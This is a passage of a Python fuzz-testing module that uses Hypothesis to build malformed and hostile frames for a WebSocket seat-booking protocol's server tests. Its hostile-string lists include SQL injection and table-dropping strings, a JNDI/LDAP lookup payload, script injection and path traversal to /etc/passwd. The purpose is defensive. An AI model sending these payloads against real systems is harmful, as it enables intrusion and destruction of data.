"""Hypothesis strategies for hostile seatd.v1 frames.

Two families:

- **Valid-shaped requests, mutated.** Every request type of the committed JSON Schema
  (``protocol/seatd.v1.schema.json``, ``$defs/request.<type>``) is generated from its own schema,
  so a new request type or field is fuzzed without touching this file. Fields that name things
  of the running server (event ids, seat ids, hold ids, versions, idempotency keys, tokens) come
  from the ``World`` the test set up, or are ``Slot``s the engine fills in when it sends the
  frame (a live hold of the connection, one already ended, someone else's, the event a
  ``create_event`` still in flight is creating, ...). Then zero to three mutations break the
  frame where the server has to look: a value of the wrong type, each bound of the schema and
  one past it (numbers, lengths, item counts), a hostile string (SQL, control characters,
  unicode oddities, very long), null, deep nesting, an unknown or missing key, another request
  type's name, a bad ``id``.
- **Garbage.** Truncated or almost-JSON text, duplicate keys, non-objects, deep and huge JSON,
  random text and bytes, binary frames, and, rarely, what makes the server close: invalid UTF-8
  (1007), frames over the size limit (1009), WebSocket framing violations (1002), and a client
  that drops its connection with requests in flight.

Hypothesis draws a corpus of ``Template``s (``corpus``: one seeded run per family and request
type, so every type gets its share); the engine sends each template many times, with a fresh
id and fresh slot values each time. Hypothesis draws about a thousand frames a second here, so
drawing all 100,000 frames of a run one by one would take minutes.
"""

from __future__ import annotations

import math
import re
import secrets
import zlib
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any, Literal

import orjson
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

__all__ = [
    "ID_MARKER",
    "LEAK_MARKERS",
    "RAW_VIOLATIONS",
    "Grammar",
    "Kind",
    "Raw",
    "Slot",
    "Template",
    "World",
    "corpus",
    "dumps",
    "family_counts",
    "replace_slots",
    "template",
]

Kind = Literal[
    "json",  # a JSON value (usually an object) sent as one text frame
    "text",  # text sent as is, but for ID_MARKER (replaced by a fresh id)
    "binary",  # bytes in a binary frame
    "bad_utf8",  # bytes in a text frame that are not UTF-8: close 1007
    "oversize",  # a text frame over max_frame_bytes: close 1009
    "fragments",  # a JSON object sent as a fragmented text message
    "raw",  # bytes written under the WebSocket layer: a framing violation (RAW_VIOLATIONS)
    "abandon",  # a burst of requests, then the TCP connection is dropped
]

ID_MARKER = "__FUZZ_ID__"

# A reply must never contain these (a traceback, a source path, an exception's repr) unless
# the frame it answers did: replies echo some client strings.
LEAK_MARKERS: tuple[str, ...] = (
    "Traceback",
    'File "',
    '.py"',
    ".py'",
    "site-packages",
    "/seatd/",
    "asyncpg",
    "Error('",
    'Error("',
    "Exception(",
)


class Raw(str):
    """A JSON token written as is: numbers JSON can spell but Python cannot hold (``1e400``,
    ``18446744073709551616``, ``-0``, ``1E2``), or nesting too deep for Python to build."""

    __slots__ = ()


@dataclass(frozen=True, slots=True)
class Slot:
    """A value the engine fills in when it sends the frame, from the connection's state."""

    name: Literal["id", "hold", "version", "key", "token", "new_event"]
    variant: str = ""


@dataclass(frozen=True, slots=True)
class Template:
    kind: Kind
    body: Any  # JSON value (json, fragments), str (text, raw), bytes (others), int (abandon)
    label: str  # request type (and mutations) or garbage family, for the statistics
    slots: tuple[tuple[Any, ...], ...] = ()  # paths to the Slots inside ``body``
    raw: bool = False  # ``body`` holds Raw tokens
    pieces: int = 1  # fragments


@dataclass(frozen=True, slots=True)
class World:
    """What the fuzzers may name, set up by the test before the corpus is drawn."""

    events: tuple[str, ...]  # events fuzzers hold seats of
    seats: tuple[str, ...]  # their seat ids
    read_only_events: tuple[str, ...] = ()  # others' events: never held, only read or probed
    missing_events: tuple[str, ...] = ("no-such-event", "ev-0000000000000000")
    users: tuple[str, ...] = ("fuzz-a", "fuzz-b", "carol")
    max_frame_bytes: int = 65536
    request_schemas: Mapping[str, Mapping[str, Any]] = field(default_factory=dict)
    defs: Mapping[str, Any] = field(default_factory=dict)

    @classmethod
    def from_schema(cls, document: Mapping[str, Any], **kwargs: Any) -> World:
        """A world whose request types are those of the schema document."""
        defs = document["$defs"]
        requests = {
            name.removeprefix("request."): body
            for name, body in defs.items()
            if name.startswith("request.")
        }
        return cls(request_schemas=requests, defs=defs, **kwargs)


# --- serialising ------------------------------------------------------------------------------

# Raw tokens travel through orjson as strings holding this process's nonce, which no drawn
# string can contain by chance.
_NONCE = secrets.token_hex(8)
_RAW_PLACEHOLDER = re.compile(rb'"\\u0001' + _NONCE.encode() + rb'(\d+)\\u0001"')


def dumps(value: Any, raw: bool = False) -> bytes:
    """JSON bytes of ``value``; ``Raw`` tokens (only when ``raw``) are written as they are."""
    if not raw:
        return orjson.dumps(value)
    tokens: list[str] = []

    def default(obj: Any) -> Any:
        if isinstance(obj, Raw):
            tokens.append(str(obj))
            return f"\x01{_NONCE}{len(tokens) - 1}\x01"
        if isinstance(obj, str):
            return str(obj)
        raise TypeError(type(obj).__name__)

    text = orjson.dumps(value, default=default, option=orjson.OPT_PASSTHROUGH_SUBCLASS)
    return _RAW_PLACEHOLDER.sub(lambda m: tokens[int(m.group(1))].encode(), text)


def replace_slots(value: Any) -> Any:
    """``value`` with the id slot as ID_MARKER and other slots as plain strings (for frames
    turned into text or bytes at drawing time)."""
    if isinstance(value, Slot):
        return Raw(ID_MARKER) if value.name == "id" else f"slot-{value.name}"
    if isinstance(value, dict):
        return {k: replace_slots(v) for k, v in value.items()}
    if isinstance(value, list):
        return [replace_slots(v) for v in value]
    return value


def _slot_paths(value: Any, at: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if isinstance(value, Slot):
        yield at
    elif isinstance(value, dict):
        for key, item in value.items():
            yield from _slot_paths(item, (*at, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _slot_paths(item, (*at, index))


def _has_raw(value: Any) -> bool:
    if isinstance(value, Raw):
        return True
    if isinstance(value, dict):
        return any(_has_raw(v) for v in value.values())
    if isinstance(value, list):
        return any(_has_raw(v) for v in value)
    return False


def template(kind: Kind, body: Any, label: str, pieces: int = 1) -> Template:
    structured = kind in ("json", "fragments")
    slots = tuple(_slot_paths(body)) if structured else ()
    raw = _has_raw(body) if structured else False
    return Template(kind, body, label, slots, raw, pieces)


# --- hostile material -------------------------------------------------------------------------

HOSTILE_STRINGS: tuple[str, ...] = (
    "",
    " ",
    "'",
    '"',
    "\\",
    "'; DROP TABLE events; --",
    "' OR '1'='1",
    "1; DELETE FROM holds WHERE true; --",
    "'); SELECT pg_sleep(5); --",
    "$1",
    "%s%s%s%n",
    "{0}{1}{}",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "*",
    "?*[]",
    "seatd:{ev}:hold:*",
    "\x00",
    "a\x00b",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\t\n\r",
    "\x1b[31mred\x1b[0m",
    "\x7f",
    "\u0085",
    "\u2028\u2029",
    "\u200b\u200c\u200d\u2060",
    "\ufeff",
    "\u202e\u2066dlrow olleh",
    "e\u0301\u0301\u0301\u0301",
    "\ufffd",
    "\ufffe\uffff",
    "\U0010ffff",
    "\U0001f600\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\uff21-\uff11",  # fullwidth A-1
    "\u0410-1",  # Cyrillic A-1
    "İ",
    "ß",
    "ﬃ",
    "null",
    "true",
    "0",
    "-1",
    "NaN",
    "Infinity",
    '{"id":1,"type":"ping"}',
    '\n{"level":"error","event":"forged"}',
    "A-1",
    "floor-A-1",
    "admin",
    "a" * 63,
    "a" * 64,
    "a" * 65,
    "b" * 128,
    "b" * 129,
    "c" * 200,
    "c" * 201,
    "\U0001f600" * 64,
    "\U0001f600" * 65,
    "é" * 129,
    "d" * 4097,
)


_ODD_CHARACTERS = st.characters(
    categories=("Cc", "Cf", "Co", "Cn", "Zl", "Zp", "Zs", "Mn", "Me", "So"), codec="utf-8"
)
HOSTILE: st.SearchStrategy[str] = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    st.text(st.characters(codec="utf-8"), max_size=40),
    st.text(_ODD_CHARACTERS, min_size=1, max_size=12),
    st.builds(
        lambda unit, n: unit * n,
        st.sampled_from(["a", "\u00e9", "\U0001f600", " ", "\x00", "-", "\u0301"]),
        st.sampled_from([16, 17, 32, 33, 63, 64, 65, 127, 128, 129, 200, 201, 4096, 4097]),
    ),
)

INT64_MAX = 2**63 - 1
INT64_MIN = -(2**63)
BOUNDARY_NUMBERS: tuple[Any, ...] = (
    0,
    -1,
    1,
    2,
    255,
    256,
    65535,
    65536,
    2**31 - 1,
    2**31,
    -(2**31) - 1,
    2**53,
    2**53 + 1,
    INT64_MAX,
    INT64_MIN,
    2**64 - 1,
    Raw("9223372036854775808"),
    Raw("-9223372036854775809"),
    Raw("18446744073709551616"),
    Raw("1" + "0" * 400),
    Raw("-0"),
    Raw("1E2"),
    Raw("1e0"),
    Raw("1.0"),
    Raw("-0.0"),
    Raw("0.1e1"),
    Raw("1e400"),
    Raw("-1e400"),
    Raw("1e-400"),
    Raw("0" * 30 + "1"),  # leading zeros: invalid JSON
    Raw("0x10"),
    Raw("+1"),
    Raw(".5"),
    Raw("NaN"),
    Raw("Infinity"),
    Raw("-Infinity"),
    0.5,
    -0.0,
    1e308,
    -1e308,
    5e-324,
    2.2250738585072014e-308,
    1.7976931348623157e308,
    0.1 + 0.2,
)


NUMBERS: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(BOUNDARY_NUMBERS),
    st.integers(min_value=INT64_MIN, max_value=2**64 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
)
SCALARS: st.SearchStrategy[Any] = st.one_of(
    st.none(), st.booleans(), NUMBERS, HOSTILE, st.just([]), st.just({})
)


def nested(depth: int, leaf: Any = 1, kind: str = "array") -> Raw:
    """``leaf`` inside ``depth`` arrays (or objects), as JSON text: Python (and orjson) would
    refuse to build or write values nested this deep."""
    inner = dumps(replace_slots(leaf), raw=True).decode()
    if kind == "array":
        return Raw("[" * depth + inner + "]" * depth)
    return Raw('{"a":' * depth + inner + "}" * depth)


DEPTHS = (2, 10, 100, 500, 1000, 1023, 1024, 1025, 3000)
# Any JSON value, weighted towards those validators get wrong.
WRONG_VALUES: st.SearchStrategy[Any] = st.one_of(
    SCALARS,
    st.lists(SCALARS, max_size=4),
    st.dictionaries(HOSTILE, SCALARS, max_size=3),
    st.builds(nested, st.sampled_from(DEPTHS), SCALARS, st.sampled_from(["array", "object"])),
)
HOSTILE_KEYS: tuple[str, ...] = (
    "",
    " ",
    "ID",
    "Type",
    "id ",
    " type",
    "type\x00",
    "__proto__",
    "constructor",
    "$where",
    "$.id",
    "seat id",
    "seat_ids[0]",
    "k" * 300,
    "\u202eid",
    "\U0001f600",
)
# Ids the server must refuse (the reply's id is null), or valid but odd ones (the engine keeps
# those unique among the requests in flight).
HOSTILE_IDS: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(
        [
            None,
            "",
            "x" * 65,
            "\U0001f600" * 65,
            1.5,
            Raw("1.0"),
            Raw("2e3"),
            Raw("-0"),
            True,
            False,
            [],
            [1],
            {},
            {"id": 1},
            Raw("9223372036854775808"),
            Raw("-9223372036854775809"),
            Raw("18446744073709551616"),
            INT64_MAX,
            INT64_MIN,
            "x" * 64,
            "\U0001f600" * 64,
            "\x00",
            "'; DROP TABLE holds; --",
            "\u202e",
        ]
    ),
    HOSTILE,
    NUMBERS,
)
BAD_TYPES: st.SearchStrategy[Any] = st.one_of(
    st.sampled_from(["", "HOLD", " hold", "hold ", "hold\x00", "Ping", "book", "__proto__"]),
    HOSTILE,
    WRONG_VALUES,
)

# --- requests from the schema -----------------------------------------------------------------

Path = tuple[Any, ...]


def _resolve(schema: Mapping[str, Any], defs: Mapping[str, Any]) -> Mapping[str, Any]:
    while "$ref" in schema:
        schema = defs[str(schema["$ref"]).removeprefix("#/$defs/")]
    return schema


def from_schema(
    schema: Mapping[str, Any],
    defs: Mapping[str, Any],
    overrides: Mapping[str, st.SearchStrategy[Any]] | None = None,
) -> st.SearchStrategy[Any]:
    """Values valid for ``schema``, kept small (the mutations probe the bounds); the
    properties named in ``overrides`` (top level only) are drawn from those instead."""
    schema = _resolve(schema, defs)
    if "const" in schema:
        return st.just(schema["const"])
    if "enum" in schema:
        return st.sampled_from(list(schema["enum"]))
    if "anyOf" in schema:
        branches = [_resolve(b, defs) for b in schema["anyOf"]]
        real = [b for b in branches if b.get("type") != "null"]
        options = [from_schema(b, defs) for b in real]
        if len(real) < len(branches):
            options.append(st.none())
        return st.one_of(options)
    kind = schema.get("type")
    if kind == "object":
        required = set(schema.get("required", ()))
        members = {
            name: overrides[name] if overrides and name in overrides else from_schema(sub, defs)
            for name, sub in schema.get("properties", {}).items()
        }
        return st.fixed_dictionaries(
            {k: v for k, v in members.items() if k in required},
            optional={k: v for k, v in members.items() if k not in required},
        )
    if kind == "array":
        low = schema.get("minItems", 0)
        return st.lists(
            from_schema(schema.get("items", {}), defs),
            min_size=low,
            max_size=max(low, min(schema.get("maxItems", 4), 4)),
            unique_by=(lambda v: orjson.dumps(v)) if schema.get("uniqueItems") else None,
        )
    if kind == "string":
        low, high = schema.get("minLength", 0), schema.get("maxLength", 10**9)
        if "pattern" in schema:
            return st.from_regex(schema["pattern"], fullmatch=True).filter(
                lambda s: low <= len(s) <= high
            )
        return st.text(min_size=low, max_size=max(low, min(high, 24)))
    if kind == "integer":
        return st.integers(schema.get("minimum", -1000), schema.get("maximum", 1000))
    if kind == "number":
        low, high = schema.get("minimum", -1e6), schema.get("maximum", 1e6)
        return st.floats(low, high) | st.integers(math.ceil(low), math.floor(high))
    if kind == "boolean":
        return st.booleans()
    if kind == "null":
        return st.none()
    return WRONG_VALUES


def boundary_values(schema: Mapping[str, Any], defs: Mapping[str, Any]) -> list[Any]:
    """Each bound of ``schema`` and one past it, and look-alikes of its type."""
    schema = _resolve(schema, defs)
    if "anyOf" in schema:
        values: list[Any] = []
        for branch in schema["anyOf"]:
            values += boundary_values(branch, defs)
        return values
    kind = schema.get("type")
    values = []
    if kind in ("integer", "number"):
        for bound in ("minimum", "maximum"):
            if bound in schema:
                b = schema[bound]
                values += [b, b - 1, b + 1, float(b), Raw(f"{b}e0"), Raw(f"{b}.0")]
        values += [True, str(schema.get("minimum", 1)), None]
        if kind == "integer":
            values += [1.5, Raw("1E1"), INT64_MAX + 1]
    elif kind == "string":
        low, high = schema.get("minLength", 0), schema.get("maxLength")
        values += ["A" * low, "A" * max(low - 1, 0), 1, [], None]
        if high is not None:
            values += ["A" * high, "A" * (high + 1), "\U0001f600" * high, "\u00e9" * (high + 1)]
        if "pattern" in schema:
            values += ["a\n", "\na", "-a", ".a", "a b", "a\x00", "a/b", "\u0661"]
    elif kind == "array":
        low, high = schema.get("minItems", 0), schema.get("maxItems")
        values += [[], "A-1", {"0": "A-1"}, [None], [["A-1"]]]
        if high is not None and high <= 5000:
            values += [[f"S-{n}" for n in range(high)], [f"S-{n}" for n in range(high + 1)]]
        if low:
            values += [["A-1"] * low]
        if schema.get("uniqueItems"):
            values += [["A-1", "A-1"], ["A-1", "A-2", "A-1"], [1, 1.0]]
    elif kind == "object":
        values += [{}, [], "x", None, {"latitude": 91, "longitude": 0}]
    return values


def _paths(
    value: Any, schema: Mapping[str, Any], defs: Mapping[str, Any], at: Path = ()
) -> Iterator[tuple[Path, Mapping[str, Any]]]:
    """Every value inside ``value`` with the schema describing it."""
    schema = _resolve(schema, defs)
    if "anyOf" in schema and value is not None:
        real = [b for b in schema["anyOf"] if _resolve(b, defs).get("type") != "null"]
        if real:
            schema = _resolve(real[0], defs)
    if at:
        yield at, schema
    if isinstance(value, dict):
        properties = schema.get("properties", {})
        for key, item in value.items():
            yield from _paths(item, properties.get(key, {}), defs, (*at, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from _paths(item, schema.get("items", {}), defs, (*at, index))


def _get(value: Any, path: Path) -> Any:
    for key in path:
        value = value[key]
    return value


def _replace(value: Any, path: Path, new: Any) -> Any:
    if not path:
        return new
    head, rest = path[0], path[1:]
    if isinstance(value, dict):
        return {**value, head: _replace(value[head], rest, new)}
    copy = list(value)
    copy[head] = _replace(copy[head], rest, new)
    return copy


def _delete(value: Any, path: Path) -> Any:
    head, rest = path[0], path[1:]
    if isinstance(value, dict):
        if not rest:
            return {k: v for k, v in value.items() if k != head}
        return {**value, head: _delete(value[head], rest)}
    copy = list(value)
    if not rest:
        del copy[head]
    else:
        copy[head] = _delete(copy[head], rest)
    return copy


MUTATIONS = ("wrong", "boundary", "boundary", "hostile", "null", "drop", "extra", "nest",
             "type", "id", "swap_type")  # fmt: skip


class Grammar:
    """The strategies of one world, built once (building them is what costs)."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.types = tuple(sorted(world.request_schemas))
        self._valid = {
            name: from_schema(
                schema, world.defs, {"id": st.just(Slot("id")), **self._overrides(name)}
            )
            for name, schema in world.request_schemas.items()
        }

    def _overrides(self, request_type: str) -> dict[str, st.SearchStrategy[Any]]:
        """Fields that name things of the running server, by field name (top level only)."""
        world = self.world
        holdable = world.events + world.missing_events
        events = st.sampled_from(
            holdable if request_type == "hold" else holdable + world.read_only_events
        )
        seat = st.sampled_from(world.seats)
        overrides: dict[str, st.SearchStrategy[Any]] = {
            "event_id": st.one_of(events, events, events, st.just(Slot("new_event"))),
            "seat_ids": st.lists(seat, min_size=1, max_size=4, unique=True),
            "hold_id": st.builds(
                Slot,
                st.just("hold"),
                st.sampled_from(
                    ["live", "live", "live", "ended", "foreign", "random", "respelled"]
                ),
            ),
            "since_version": st.one_of(
                st.builds(Slot, st.just("version"), st.sampled_from(["seen", "ahead", "behind"])),
                st.none(),
                st.sampled_from([0, 1, INT64_MAX]),
            ),
            "on_behalf_of": st.one_of(
                st.none(), st.sampled_from(world.users), st.sampled_from(world.users), HOSTILE
            ),
            "idempotency_key": st.one_of(
                st.none(),
                st.builds(Slot, st.just("key"), st.sampled_from(["fresh", "reuse"])),
                HOSTILE.filter(lambda k: 0 < len(k) <= 128),
            ),
            "token": st.builds(
                Slot,
                st.just("token"),
                st.sampled_from(["same", "same", "other", "expired", "garbage"]),
            ),
        }
        if request_type == "create_event":
            # New events: small (a fuzz run may create hundreds), often under a fresh id that
            # a hold pipelined right behind names (Slot new_event).
            overrides["event_id"] = st.one_of(
                st.just(Slot("new_event")), st.from_regex(r"fz-[a-z0-9]{12}", fullmatch=True)
            )
            overrides["starts_at"] = st.one_of(st.none(), st.sampled_from(TIMES), TIMES_DRAWN)
            overrides["seats"] = st.lists(
                st.fixed_dictionaries(
                    {"seat_id": st.from_regex(r"[A-Z]-[0-9]{1,3}", fullmatch=True)},
                    optional={
                        "section": st.sampled_from(["", "floor", "box"]),
                        "x": st.floats(-1e6, 1e6),
                        "number": st.integers(0, 1_000_000),
                    },
                ),
                max_size=4,
                unique_by=lambda s: str(s["seat_id"]),
            )
            overrides["blocks"] = st.lists(
                st.fixed_dictionaries(
                    {
                        "rows": st.lists(
                            st.sampled_from("ABCDEFGH"), min_size=1, max_size=3, unique=True
                        ),
                        "seats_per_row": st.integers(1, 8),
                    },
                    optional={"section": st.from_regex(r"[A-Za-z0-9]{0,5}", fullmatch=True)},
                ),
                max_size=2,
            )
        if request_type == "list_available":
            overrides["after"] = st.one_of(st.none(), seat)
            overrides["limit"] = st.integers(1, 50)
        if request_type == "list_events":
            overrides["limit"] = st.integers(1, 20)
        return overrides

    # --- requests ------------------------------------------------------------------------------

    def request(self, request_type: str) -> st.SearchStrategy[Template]:
        """A ``request_type`` request, valid-shaped, then mutated zero to three times."""
        schema = self.world.request_schemas[request_type]
        valid = self._valid[request_type]

        @st.composite
        def mutated(draw: st.DrawFn) -> Template:
            frame = draw(valid)
            applied = []
            for _ in range(draw(st.sampled_from((0, 0, 1, 1, 1, 1, 2, 2, 3)))):
                how = draw(st.sampled_from(MUTATIONS))
                frame = self._mutate(draw, frame, schema, how)
                applied.append(how)
            label = request_type + ("~" + "+".join(sorted(applied)) if applied else "")
            return template("json", frame, label)

        return mutated()

    def any_request(self) -> st.SearchStrategy[Template]:
        return st.sampled_from(self.types).flatmap(self.request)

    def _mutate(self, draw: st.DrawFn, frame: Any, schema: Mapping[str, Any], how: str) -> Any:
        if not isinstance(frame, dict):
            return frame
        if how == "id":
            if draw(st.booleans()):
                return {k: v for k, v in frame.items() if k != "id"}
            return {**frame, "id": draw(HOSTILE_IDS)}
        if how == "type":
            if draw(st.booleans()):
                return {k: v for k, v in frame.items() if k != "type"}
            return {**frame, "type": draw(BAD_TYPES)}
        if how == "swap_type":
            return {**frame, "type": draw(st.sampled_from(self.types))}
        if how == "extra":
            key = draw(st.one_of(st.sampled_from(HOSTILE_KEYS), HOSTILE))
            return {**frame, (key + "_" if key in ("id", "type") else key): draw(WRONG_VALUES)}
        paths = [(p, s) for p, s in _paths(frame, schema, self.world.defs) if p[0] != "id"]
        if not paths:
            return frame
        path, sub = draw(st.sampled_from(paths))
        if how == "drop":
            return _delete(frame, path)
        if how == "null":
            return _replace(frame, path, None)
        if how == "hostile":
            return _replace(frame, path, draw(HOSTILE))
        if how == "nest":
            depth = draw(st.sampled_from((1, 2, 50, 1000, 1100)))
            kind = draw(st.sampled_from(("array", "object")))
            return _replace(frame, path, nested(depth, _get(frame, path), kind))
        if how == "boundary":
            options = boundary_values(sub, self.world.defs)
            if options:
                return _replace(frame, path, draw(st.sampled_from(options)))
        return _replace(frame, path, draw(WRONG_VALUES))

    # --- garbage -------------------------------------------------------------------------------

    def almost_json(self) -> st.SearchStrategy[Template]:
        """Text that is nearly a request: cut short, extended, keys repeated, JSON5-isms."""

        @st.composite
        def strategy(draw: st.DrawFn) -> Template:
            request_type = draw(st.sampled_from(self.types))
            frame = draw(self._valid[request_type])
            text = dumps(replace_slots(frame), raw=True).decode()
            how = draw(st.sampled_from(ALMOST_JSON))
            if how == "truncate":
                text = text[: draw(st.integers(0, max(0, len(text) - 1)))]
            elif how == "duplicate_key":
                key = draw(st.sampled_from(("event_id", "id", "type", "seat_ids", "hold_id")))
                value = orjson.dumps(draw(SCALARS)).decode() if key != "id" else ID_MARKER
                text = text[:-1] + f',"{key}":{value}}}'
            elif how == "duplicate_type":
                other = draw(st.sampled_from(self.types))
                text = '{"type":' + orjson.dumps(other).decode() + "," + text[1:]
            elif how == "trailing":
                text += draw(st.sampled_from(("}", "]", ",", " x", "\x00", "{}", "null")))
            elif how == "whitespace":
                text = draw(st.sampled_from((" ", "\n", "\t\r\n", " " * 1000))) + text + "\n"
            elif how == "bom":
                text = "\ufeff" + text
            elif how == "comment":
                text = "/* hi */" + text
            elif how == "single_quotes":
                text = text.replace('"', "'")
            elif how == "trailing_comma":
                text = text[:-1] + ",}"
            elif how == "nan":
                word = draw(st.sampled_from(("NaN", "Infinity", "-Infinity", "undefined")))
                text = text[:-1] + f',"x":{word}}}'
            elif how == "control_in_string":
                text = text[:-1] + ',"x":"a' + draw(st.sampled_from(("\x00", "\n", "\x1f"))) + 'b"}'
            elif how == "escapes":
                escape = draw(
                    st.sampled_from(("\\ud800", "\\udc00x", "\\u00", "\\x41", "\\q", "\\u0000"))
                )
                text = text[:-1] + ',"x":"' + escape + '"}'
            else:
                text = text + text
            return template("text", text, f"text:{how}")

        return strategy()

    def odd_json(self) -> st.SearchStrategy[Template]:
        """JSON that is no request object; deep JSON; huge JSON."""

        @st.composite
        def strategy(draw: st.DrawFn) -> Template:
            how = draw(st.sampled_from(ODD_JSON))
            if how == "scalar":
                return template("json", draw(SCALARS), "json:scalar")
            if how == "array":
                return template("json", draw(st.lists(SCALARS, max_size=5)), "json:array")
            if how == "empty":
                text = draw(st.sampled_from(("", " ", "{}", "[]", "{", "}", '""', "null")))
                return template("text", text, "text:empty")
            if how in ("deep_array", "deep_object"):
                depth = draw(st.sampled_from((100, 512, 1000, 1023, 1024, 1025, 2000, 10000)))
                opener, closer = ("[", "]") if how == "deep_array" else ('{"a":', "}")
                return template("text", opener * depth + "1" + closer * depth, f"text:{how}")
            if how == "deep_in_field":
                depth = draw(st.sampled_from((10, 500, 1020, 1030, 5000)))
                name = draw(st.sampled_from(("seat_ids", "event_id", "x", "hold_id")))
                event = draw(st.sampled_from(self.world.events))
                text = (
                    f'{{"id":{ID_MARKER},"type":"hold","event_id":"{event}","{name}":'
                    + "[" * depth
                    + "]" * depth
                    + "}"
                )
                return template("text", text, "text:deep_in_field")
            event = draw(st.sampled_from(self.world.events))
            if how == "huge_array":
                n = draw(st.sampled_from((101, 1000, 5000)))
                seats = [f"S-{i}" for i in range(n)]
                body = {"id": Slot("id"), "type": "hold", "event_id": event, "seat_ids": seats}
                return template("json", body, "json:huge_array")
            if how == "many_keys":
                n = draw(st.sampled_from((100, 2000)))
                body = {"id": Slot("id"), "type": "ping", **{f"k{i}": i for i in range(n)}}
                return template("json", body, "json:many_keys")
            size = draw(st.sampled_from((1000, 30000, 60000)))
            body = {"id": Slot("id"), "type": "get_event", "event_id": "e" * size}
            return template("json", body, "json:long_string")

        return strategy()

    def random_frames(self) -> st.SearchStrategy[Template]:
        """Random text, random bytes, and requests sent as binary frames."""

        @st.composite
        def strategy(draw: st.DrawFn) -> Template:
            how = draw(st.sampled_from(("text", "text", "binary", "binary_request")))
            if how == "text":
                text = draw(st.text(st.characters(codec="utf-8"), max_size=200))
                return template("text", text, "text:random")
            if how == "binary":
                return template("binary", draw(st.binary(max_size=200)), "binary:random")
            frame = draw(self.any_request())
            return template("binary", dumps(replace_slots(frame.body), raw=True), "binary:request")

        return strategy()

    def fragmented(self) -> st.SearchStrategy[Template]:
        """A request sent as a fragmented message (valid WebSocket, unusual)."""

        @st.composite
        def strategy(draw: st.DrawFn) -> Template:
            frame = draw(self.any_request())
            return template(
                "fragments", frame.body, "fragments:" + frame.label, draw(st.integers(2, 12))
            )

        return strategy()

    def closing(self, how: str) -> st.SearchStrategy[Template]:
        """What the server must close on: bad UTF-8 (1007), too big (1009), a framing
        violation (1002, ...); and (``abandon``) a client dropping its connection with requests
        in flight."""

        @st.composite
        def strategy(draw: st.DrawFn) -> Template:
            if how == "bad_utf8":
                bad = draw(st.sampled_from(BAD_UTF8))
                where = draw(st.sampled_from(("alone", "in_string", "end")))
                if where == "in_string":
                    bad = b'{"id":1,"type":"ping","x":"' + bad + b'"}'
                elif where == "end":
                    bad = b'{"id":1,"type":"ping"}' + bad
                return template("bad_utf8", bad, f"bad_utf8:{where}")
            if how == "oversize":
                extra = draw(st.sampled_from((1, 2, 100, 65536, 1_000_000)))
                size = self.world.max_frame_bytes + extra
                head, tail = b'{"id":1,"type":"ping","pad":"', b'"}'
                body = head + b"x" * (size - len(head) - len(tail)) + tail
                return template("oversize", body, f"oversize:+{extra}")
            if how == "abandon":
                return template("abandon", draw(st.integers(1, 16)), "abandon")
            violation = draw(st.sampled_from(sorted(RAW_VIOLATIONS)))
            return template("raw", violation, f"raw:{violation}")

        return strategy()

    def plan(self, size: int) -> list[tuple[str, st.SearchStrategy[Template], int]]:
        """(name, strategy, count) per family: two thirds requests, shared by the types."""
        share = {"almost_json": 0.14, "odd_json": 0.08, "random": 0.07, "fragments": 0.04,
                 "bad_utf8": 0.003, "oversize": 0.002, "raw": 0.004, "abandon": 0.002}  # fmt: skip
        families = {
            "almost_json": self.almost_json(),
            "odd_json": self.odd_json(),
            "random": self.random_frames(),
            "fragments": self.fragmented(),
            **{how: self.closing(how) for how in ("bad_utf8", "oversize", "raw", "abandon")},
        }
        plan = [(name, families[name], max(1, round(size * part))) for name, part in share.items()]
        left = size - sum(count for _, _, count in plan)
        for n, name in enumerate(self.types):
            count = left // len(self.types) + (1 if n < left % len(self.types) else 0)
            plan.append((f"request.{name}", self.request(name), count))
        return plan


# create_event.starts_at: RFC 3339 with an offset, at the edges of what Python, PostgreSQL and
# the protocol's own format can hold, and near misses.
TIMES: tuple[str, ...] = (
    "2026-12-12T20:00:00+01:00",
    "2026-12-12T19:00:00Z",
    "2026-12-12t19:00:00z",
    "2026-12-12 19:00:00Z",
    "2026-12-12T19:00:00.123456789Z",
    "2026-12-12T19:00:00",  # no offset
    "2026-12-12",
    "2026-02-29T00:00:00Z",
    "2028-02-29T00:00:00Z",
    "2026-06-30T23:59:60Z",
    "2026-12-12T24:00:00Z",
    "2026-13-01T00:00:00Z",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+00:01",
    "0001-01-01T00:30:00+01:00",
    "0000-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "9999-12-31T23:59:59-00:01",
    "9999-12-31T23:30:00-01:00",
    "1970-01-01T00:00:00Z",
    "1969-12-31T23:59:59.999Z",
    "2038-01-19T03:14:08Z",
    "2026-12-12T19:00:00+14:00",
    "2026-12-12T19:00:00-12:00",
    "2026-12-12T19:00:00+23:59",
    "2026-12-12T19:00:00+24:00",
    "2026-12-12T19:00:00+05:30:15",
    "2026-W50-6T19:00:00Z",
    "20261212T190000Z",
    "+12026-12-12T19:00:00Z",
)
TIMES_DRAWN: st.SearchStrategy[str] = st.builds(
    lambda d, offset: d.isoformat() + offset,
    st.datetimes(),
    st.sampled_from(("Z", "+00:00", "-00:00", "+01:00", "-11:59", "+14:00")),
)

ALMOST_JSON = ("truncate", "duplicate_key", "duplicate_type", "trailing", "whitespace", "bom",
               "comment", "single_quotes", "trailing_comma", "nan", "control_in_string",
               "escapes", "concatenated")  # fmt: skip
ODD_JSON = ("scalar", "array", "deep_array", "deep_object", "deep_in_field", "huge_array",
            "many_keys", "long_string", "empty")  # fmt: skip
BAD_UTF8: tuple[bytes, ...] = (
    b"\xff",
    b"\xc0\xaf",  # overlong '/'
    b"\xe0\x80\xaf",  # overlong
    b"\xed\xa0\x80",  # a surrogate
    b"\xf4\x90\x80\x80",  # past U+10FFFF
    b"\xf8\x88\x80\x80\x80",  # 5-byte form
    b"\x80",  # lone continuation byte
